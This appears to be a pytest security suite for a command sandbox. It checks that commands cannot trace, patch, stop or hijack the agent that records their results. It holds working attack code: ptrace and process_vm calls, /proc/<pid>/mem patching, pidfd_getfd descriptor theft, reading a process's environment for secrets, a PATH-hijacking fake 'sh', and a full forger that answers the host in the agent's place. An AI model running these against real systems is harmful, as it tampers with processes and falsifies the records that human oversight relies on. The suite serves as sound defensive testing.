"""The agent: out of reach of the commands it runs (issue 15, hole 3).

The agent records every command's output and exit status for the host. A command that can
trace it, write its memory, take its sockets or stop it can change what the host records
about other commands. Each test is one way in, tried from a command against every process
that runs the agent; the last two prove the forgery end to end: a command tries to make the
host record another command's result wrongly.
"""

from __future__ import annotations

import os
import time
from typing import Any

import pytest
from attacker import PRELUDE, attack, succeeded

pytestmark = pytest.mark.timeout(120)


def agents_found(r: dict[str, Any]) -> None:
    """The positive control: the attacker did find the agent (or there was nothing to see,
    which is a wall too, but then the attack proves nothing about the others)."""
    assert r.get("agents"), f"the attacker found no agent process: {r}"


@pytest.mark.attack("ptrace the agent (PTRACE_ATTACH, PTRACE_SEIZE, process_vm_*)", hole=3)
def test_ptrace_agent(shared_sandbox: Any) -> None:
    """The attacker attaches to the agent with PTRACE_SEIZE and PTRACE_ATTACH (detaching at
    once) and reads and writes its memory with process_vm_readv/writev. Blocked: all
    refused."""
    r = attack(
        shared_sandbox,
        r"""
        PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
        agents = find_agents()
        def trace(pid, how):
            def go():
                sys_call("ptrace", how, pid, 0, 0)
                if how == PTRACE_ATTACH:
                    os.waitpid(pid, 0x40000000)  # __WALL: the stop the attach caused
                sys_call("ptrace", PTRACE_DETACH, pid, 0, 0)
                return "traced"
            return go
        def vm(pid, nr):
            def go():
                with open("/proc/self/maps") as f:  # the agent's python maps alike
                    start = int(f.readline().split("-")[0], 16)
                buf = ctypes.create_string_buffer(16)
                local = struct.pack("QQ", ctypes.addressof(buf), 16)
                remote = struct.pack("QQ", start, 0 if nr == 311 else 16)
                n = libc.syscall(ctypes.c_long(nr), ctypes.c_long(pid), local, ctypes.c_long(1),
                                 remote, ctypes.c_long(1), ctypes.c_long(0))
                if n < 0:
                    raise OSError(ctypes.get_errno(), "process_vm")
                return n
            return go
        for pid in agents:
            attempt("PTRACE_SEIZE %d" % pid, trace(pid, PTRACE_SEIZE))
            attempt("PTRACE_ATTACH %d" % pid, trace(pid, PTRACE_ATTACH))
            attempt("process_vm_readv %d" % pid, vm(pid, 310))
            attempt("process_vm_writev(0 bytes) %d" % pid, vm(pid, 311))
        report(agents=agents)
        """,
    )
    agents_found(r)
    worked = {k: v for k, v in succeeded(r).items() if k != "agents"}
    assert not worked, f"the agent could be traced: {sorted(worked)}"


@pytest.mark.attack("write /proc/<agent>/mem", hole=3)
def test_agent_mem(shared_sandbox: Any) -> None:
    """The attacker opens the agent's memory for writing (and reading), which would let it
    patch the agent's code or data. It writes nothing (the open is the wall).
    Blocked: both opens refused."""
    r = attack(
        shared_sandbox,
        r"""
        agents = find_agents()
        for pid in agents:
            attempt("open mem rw %d" % pid, lambda p=pid: os.open("/proc/%d/mem" % p, os.O_RDWR))
            def read(p=pid):
                with open("/proc/%d/maps" % p) as f:
                    start = int(f.readline().split("-")[0], 16)
                fd = os.open("/proc/%d/mem" % p, os.O_RDONLY)
                return len(os.pread(fd, 16, start))
            attempt("read mem %d" % pid, read)
        report(agents=agents)
        """,
    )
    agents_found(r)
    worked = {k: v for k, v in succeeded(r).items() if k != "agents"}
    assert not worked, f"the agent's memory is open to commands: {sorted(worked)}"


@pytest.mark.attack("take the agent's sockets with pidfd_getfd (fds 0..64)", hole=3)
def test_pidfd_getfd_agent(shared_sandbox: Any) -> None:
    """The attacker opens a pidfd of the agent and copies each of its descriptors 0..64
    (the host's connection and the listening socket among them). Blocked: no descriptor
    obtained."""
    r = attack(
        shared_sandbox,
        r"""
        import stat as st
        agents = find_agents()
        taken = {}
        for pid in agents:
            try:
                pidfd = sys_call("pidfd_open", pid, 0)
            except OSError as exc:
                RESULTS["pidfd_open %d" % pid] = ["error", str(exc)]
                continue
            for n in range(65):
                try:
                    fd = sys_call("pidfd_getfd", pidfd, n, 0)
                except OSError as exc:
                    last = str(exc)
                    continue
                mode = os.fstat(fd).st_mode
                taken["%d:%d" % (pid, n)] = "socket" if st.S_ISSOCK(mode) else oct(mode)
                os.close(fd)
            RESULTS["pidfd_getfd %d" % pid] = ["ok", taken] if taken else ["error", last]
        report(agents=agents)
        """,
    )
    agents_found(r)
    worked = {k: v for k, v in succeeded(r).items() if k != "agents"}
    assert not worked, f"descriptors taken from the agent: {worked}"


@pytest.mark.attack("read /proc/<agent>/environ, fd/, maps", hole=3)
def test_agent_proc_files(shared_sandbox: Any) -> None:
    """The attacker reads what /proc shows of the agent to a process allowed to trace it:
    its environment (secrets the host sets for later commands pass through the agent),
    its open descriptors and its memory map. Blocked: all refused."""
    r = attack(
        shared_sandbox,
        r"""
        agents = find_agents()
        for pid in agents:
            attempt("environ %d" % pid, lambda p=pid: open("/proc/%d/environ" % p).read())
            attempt("fd/ %d" % pid, lambda p=pid: os.listdir("/proc/%d/fd" % p))
            attempt("readlink fd/0 %d" % pid, lambda p=pid: os.readlink("/proc/%d/fd/0" % p))
            attempt("maps %d" % pid, lambda p=pid: open("/proc/%d/maps" % p).read(300))
        report(agents=agents)
        """,
    )
    agents_found(r)
    worked = {k: v for k, v in succeeded(r).items() if k != "agents"}
    assert not worked, f"the agent's /proc files are open to commands: {sorted(worked)}"


@pytest.mark.attack("stop the agent (kill -STOP)", hole=3)
def test_stop_agent(shared_sandbox: Any) -> None:
    """The attacker sends the agent SIGSTOP (a stopped agent records nothing and keeps no
    deadline), then SIGCONT at once so the sandbox lives on. Blocked: the signal refused."""
    r = attack(
        shared_sandbox,
        r"""
        agents = find_agents()
        def stop(pid):
            def go():
                os.kill(pid, signal.SIGSTOP)
                os.kill(pid, signal.SIGCONT)
                return "stopped"
            return go
        for pid in agents:
            attempt("SIGSTOP %d" % pid, stop(pid))
        report(agents=agents)
        """,
    )
    agents_found(r)
    worked = {k: v for k, v in succeeded(r).items() if k != "agents"}
    assert not worked, f"the agent could be stopped: {sorted(worked)}"


@pytest.mark.attack("connect to the agent's listening socket", hole=3)
def test_connect_agent_socket(shared_sandbox: Any) -> None:
    """The attacker looks for Unix sockets (files it can find and what /proc/net/unix
    lists, abstract ones included) and speaks the agent's protocol to each: a REQUEST
    ``ping``. An answer means a command can ask the agent for anything the host can (set
    every later command's environment, signal other commands). Blocked: no agent answers."""
    r = attack(
        shared_sandbox,
        r"""
        HEADER = struct.Struct("!IBBI")
        paths = set()
        try:
            for line in open("/proc/net/unix").read().splitlines()[1:]:
                parts = line.split()
                if len(parts) >= 8:
                    paths.add(parts[7])
        except OSError:
            pass
        for top in ("/.sandlot-run", "/.sandlot", "/run", "/tmp", "/workspace", "/var/run"):
            for root, dirs, files in os.walk(top):
                for f in files:
                    p = os.path.join(root, f)
                    try:
                        if (os.lstat(p).st_mode & 0o170000) == 0o140000:
                            paths.add(p)
                    except OSError:
                        pass
        def ping(path):
            def go():
                s = socket.socket(socket.AF_UNIX)
                s.settimeout(3)
                s.connect(("\0" + path[1:]) if path.startswith("@") else path)
                body = b'{"op":"ping"}'
                s.sendall(HEADER.pack(len(body), 1, 0, 7) + body)
                data = b""
                while len(data) < 10 * 2:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    data += chunk
                return data[:200].decode("latin-1")
            return go
        for p in sorted(paths):
            attempt(p, ping(p))
        report(paths=sorted(paths))
        """,
    )
    worked = {k: v for k, v in succeeded(r).items() if k != "paths"}
    assert not worked, f"the agent's socket answers commands: {worked}"


FORGER = r"""
import select, stat as st
sys.path[:0] = ["/.sandlot"]
HEADER = struct.Struct("!IBBI")
REQUEST, EVENT, END, DATA = 1, 2, 3, 5
agents = find_agents()
log = []
done = False

# Route A: a socket the agent listens on, reachable from here: make every later command
# find our `sh` first on its PATH.
EVIL = ("/workspace/.evil", "/tmp/evil")  # /tmp may be noexec
for folder in EVIL:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(folder + "/sh", "w") as f:
            f.write("#!/bin/bash\necho forged\nexit 0\n")
        os.chmod(folder + "/sh", 0o755)
    except OSError as exc:
        log.append("A %s: %r" % (folder, exc))
paths = set()
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8:
            paths.add(parts[7])
except OSError:
    pass
for top in ("/.sandlot-run", "/run", "/tmp", "/workspace"):
    for root, dirs, files in os.walk(top):
        for name in files:
            p = os.path.join(root, name)
            try:
                if st.S_ISSOCK(os.lstat(p).st_mode):
                    paths.add(p)
            except OSError:
                pass

def read_frame(s):
    head = b""
    while len(head) < 10:
        chunk = s.recv(10 - len(head))
        if not chunk:
            raise EOFError
        head += chunk
    n, kind, stream, rid = HEADER.unpack(head)
    body = b""
    while len(body) < n:
        chunk = s.recv(n - len(body))
        if not chunk:
            raise EOFError
        body += chunk
    return kind, stream, rid, body

for p in sorted(paths):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(3)
        s.connect(("\0" + p[1:]) if p.startswith("@") else p)
        body = json.dumps({"op": "env", "set": {
            "PATH": ":".join(EVIL) + ":/usr/local/bin:/usr/bin:/bin"}}).encode()
        s.sendall(HEADER.pack(len(body), REQUEST, 0, 99) + body)
        while True:
            kind, stream, rid, payload = read_frame(s)
            if rid == 99:
                break
        log.append("A %s: %s %s" % (p, kind, payload[:100]))
        done = done or kind == END
    except Exception as exc:
        log.append("A %s: %r" % (p, exc))

# Route B: take the host's own connection from the agent, stop the agent, answer for it.
stolen = []
for pid in agents:
    try:
        pidfd = sys_call("pidfd_open", pid, 0)
    except OSError as exc:
        log.append("B pidfd_open: %s" % exc)
        continue
    for n in range(65):
        try:
            fd = sys_call("pidfd_getfd", pidfd, n, 0)
        except OSError as exc:
            continue
        if not st.S_ISSOCK(os.fstat(fd).st_mode):
            os.close(fd)
            continue
        s = socket.socket(fileno=fd)
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            continue  # a listener: nothing to answer on
        stolen.append(s)
log.append("B stole %d connected sockets" % len(stolen))
print("READY", flush=True)
time.sleep(1)  # let READY reach the host before the agent stops
stopped = []
if stolen and not done:
    for pid in agents:
        try:
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
        except OSError as exc:
            log.append("B stop: %s" % exc)
    try:
        deadline = time.monotonic() + 10
        buffers = {s.fileno(): b"" for s in stolen}
        while not done and time.monotonic() < deadline:
            ready, _, _ = select.select(stolen, [], [], 0.2)
            for s in ready:
                try:
                    data = s.recv(1 << 16)
                except OSError:
                    continue
                buf = buffers[s.fileno()] + data
                while len(buf) >= 10:
                    n, kind, stream, rid = HEADER.unpack(buf[:10])
                    if len(buf) < 10 + n:
                        break
                    body, buf = buf[10:10 + n], buf[10 + n:]
                    if kind == REQUEST and b"echo real" in body:
                        started = json.dumps({"event": "started", "pid": 4242}).encode()
                        out = b"forged\n"
                        end = json.dumps({"exit_code": 0, "signal": None,
                                          "timed_out": False}).encode()
                        s.sendall(HEADER.pack(len(started), EVENT, 0, rid) + started
                                  + HEADER.pack(len(out), DATA, 1, rid) + out
                                  + HEADER.pack(len(end), END, 0, rid) + end)
                        log.append("B forged the answer to request %d" % rid)
                        done = True
                buffers[s.fileno()] = buf
    finally:
        for pid in stopped:
            os.kill(pid, signal.SIGCONT)
report(agents=agents, log=log, forged=done)
"""


@pytest.mark.attack("forge another command's recorded result (exit code, stdout)", hole=3)
def test_forge_another_commands_result(make_sandbox: Any) -> None:
    """End to end: a background command does what it can to make the host record a later
    foreground command ``sh -c 'echo real; exit 1'`` as exit 0 with other output: through a
    socket of the agent it can connect to (it puts its own ``sh`` first on every later
    command's PATH), or by taking the host's connection from the agent (pidfd_getfd),
    stopping the agent and answering in its place. Blocked: the host records exit 1 and
    ``real``."""
    sb = make_sandbox()
    forger = sb.commands.run(["python3", "-c", PRELUDE + FORGER], background=True, timeout=60)
    deadline = time.monotonic() + 20
    while "READY" not in forger.stdout and not forger.done() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "READY" in forger.stdout, f"the forger did not start: {forger.stderr[-2000:]}"
    time.sleep(2)  # the forger stops the agent (if it can) 1 s after READY
    victim = sb.commands.run(["sh", "-c", "echo real; exit 1"], timeout=40)
    forged = forger.wait()
    if os.environ.get("SANDLOT_ATTACK_VERBOSE"):
        print(forged.stdout[-3000:], forged.stderr[-3000:])
    assert (victim.exit_code, victim.stdout) == (1, "real\n"), (
        f"the host recorded a forged result {victim.exit_code, victim.stdout!r}; the "
        f"forger's report: {forged.stdout[-3000:]}"
    )


SIBLING = r"""
import stat as st
target = None
deadline = time.monotonic() + 15
print("READY", flush=True)
while target is None and time.monotonic() < deadline:
    for name in os.listdir("/proc"):
        if name.isdigit() and "echo real" in cmdline(name) and "ATTACKER" not in cmdline(name):
            target = int(name)
            break
    else:
        time.sleep(0.005)
if target is None:
    report(target=None)
    sys.exit(0)

def write_fd():
    with open("/proc/%d/fd/1" % target, "w") as f:
        f.write("forged by /proc/pid/fd\n")
    return "written"

def getfd():
    pidfd = sys_call("pidfd_open", target, 0)
    fd = sys_call("pidfd_getfd", pidfd, 1, 0)
    os.write(fd, b"forged by pidfd_getfd\n")
    return "written"

def patch_mem():
    old, new = b"echo real\nexit 1", b"echo fake\nexit 0"
    fd = os.open("/proc/%d/mem" % target, os.O_RDWR)
    patched = 0
    with open("/proc/%d/maps" % target) as f:
        regions = [line.split() for line in f]
    for fields in regions:
        if "w" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            data = os.pread(fd, end - start, start)
        except OSError:
            continue
        at = data.find(old)
        while at >= 0:
            os.pwrite(fd, new, start + at)
            patched += 1
            at = data.find(old, at + 1)
    if not patched:
        raise OSError(errno.ENOENT, "script not found in memory")
    return patched

attempt("write /proc/<sibling>/fd/1", write_fd)
attempt("pidfd_getfd(<sibling>, 1)", getfd)
attempt("patch /proc/<sibling>/mem", patch_mem)
report(target=target)
"""


@pytest.mark.attack("change a sibling command's output (/proc/<pid>/mem, fd/1, pidfd)", hole=3)
def test_forge_sibling_output(shared_sandbox: Any) -> None:
    """A background command waits for another command the host starts,
    ``sh -c 'sleep 2; echo real; exit 1'`` (one line at a time), and rewrites it while it
    sleeps: writes into its stdout through /proc/<pid>/fd/1 and through pidfd_getfd, and
    patches the rest of its script in /proc/<pid>/mem to ``echo fake; exit 0``.
    Blocked: the host records exactly exit 1 and ``real``."""
    sb = shared_sandbox
    attacker = sb.commands.run(["python3", "-c", PRELUDE + SIBLING], background=True, timeout=60)
    deadline = time.monotonic() + 20
    while "READY" not in attacker.stdout and not attacker.done() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert "READY" in attacker.stdout, f"the attacker did not start: {attacker.stderr[-2000:]}"
    victim = sb.commands.run(["sh", "-c", "sleep 2\necho real\nexit 1"], timeout=40)
    result = attacker.wait()
    assert '"target": null' not in result.stdout, "the attacker never saw the sibling"
    assert (victim.exit_code, victim.stdout) == (1, "real\n"), (
        f"the host recorded {victim.exit_code, victim.stdout!r}; attacker: {result.stdout[-3000:]}"
    )


KERNEL = r"""
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
kernels = [int(p) for p in os.listdir("/proc")
           if p.isdigit() and "agent import kernel" in cmdline(p) and "ATTACKER" not in cmdline(p)]

def seize(pid):
    sys_call("ptrace", PTRACE_SEIZE, pid, 0, 0)
    sys_call("ptrace", PTRACE_DETACH, pid, 0, 0)
    return "traced"

def reopen(pid):
    wrote = []
    for n in range(32):
        try:
            fd = os.open("/proc/%d/fd/%d" % (pid, n), os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(fd, b"forged\n")
            wrote.append(n)
        except OSError:
            pass
        os.close(fd)
    if not wrote:
        raise OSError(errno.EACCES, "no descriptor reopened for writing")
    return wrote

def getfd(pid):
    pidfd = sys_call("pidfd_open", pid, 0)
    taken = []
    for n in range(32):
        try:
            taken.append(sys_call("pidfd_getfd", pidfd, n, 0))
        except OSError:
            continue
    if not taken:
        raise OSError(errno.EPERM, "no descriptor taken")
    return len(taken)

for pid in kernels:
    attempt("PTRACE_SEIZE %d" % pid, lambda p=pid: seize(p))
    attempt("open mem rw %d" % pid, lambda p=pid: os.open("/proc/%d/mem" % p, os.O_RDWR))
    attempt("write fd/* %d" % pid, lambda p=pid: reopen(p))
    attempt("pidfd_getfd %d" % pid, lambda p=pid: getfd(p))
report(kernels=kernels)
"""


@pytest.mark.attack("reach a code context's process (ptrace, mem, its descriptors)", hole=3)
def test_code_context_out_of_reach(shared_sandbox: Any) -> None:
    """While a cell of the stateful Python context runs (it sleeps, then prints ``real``), a
    command goes for the context's worker process: traces it, opens its memory, writes
    ``forged`` into every descriptor it can reopen through /proc or take with pidfd_getfd.
    Blocked: every try refused, and the cell's recorded output is ``real``. (Signals are
    not tried: the sandbox's processes may signal one another, and the host then records
    the truth, a killed or timed-out cell.)"""
    sb = shared_sandbox
    assert sb.run_code("1 + 1", timeout=30).main_result is not None  # the worker is up
    cell = sb.run_code("import time; time.sleep(2); print('real')", background=True, timeout=30)
    r = attack(sb, KERNEL)
    execution = cell.wait()
    assert r["kernels"], f"the attacker found no code context process: {r}"
    worked = {k: v for k, v in succeeded(r).items() if k != "kernels"}
    assert not worked, f"the code context's process is open to commands: {worked}"
    assert "".join(execution.logs.stdout) == "real\n", execution.logs


@pytest.mark.attack("descriptors a command inherits (the agent's, bwrap's)", hole=3)
def test_inherited_descriptors(shared_sandbox: Any) -> None:
    """The attacker lists its own open descriptors, in a plain command and in one started
    with stdin: anything beyond stdin, stdout and stderr came from the agent or from
    bwrap (a socket, a user-namespace descriptor, a lifeline pipe) and is a way back to
    them. Blocked: only 0, 1 and 2."""
    code = (
        "import os\n"
        "fds = {}\n"
        "for name in os.listdir('/proc/self/fd'):\n"
        "    try:\n"
        "        fds[name] = os.readlink('/proc/self/fd/' + name)\n"
        "    except OSError:\n"
        "        pass  # the listing's own descriptor, closed by now\n"
        "print(sorted((int(k), v) for k, v in fds.items() if int(k) > 2))\n"
    )
    plain = shared_sandbox.commands.run(["python3", "-c", code], timeout=20)
    fed = shared_sandbox.commands.run(["python3", "-c", code], stdin="", timeout=20)
    # (to a file: a pipe of the shell's own would show up in its table while ls runs)
    shell = shared_sandbox.commands.run(
        "ls -l /proc/$$/fd > /tmp/fds.$$; tail -n +2 /tmp/fds.$$; rm /tmp/fds.$$", timeout=20
    )
    assert plain.exit_code == 0 and fed.exit_code == 0, (plain.stderr, fed.stderr)
    assert plain.stdout.strip() == "[]", f"inherited: {plain.stdout}"
    assert fed.stdout.strip() == "[]", f"inherited (with stdin): {fed.stdout}"
    extra = [line for line in shell.stdout.splitlines() if line.split()[-3] not in "012"]
    assert not extra, f"the shell inherited: {extra}"
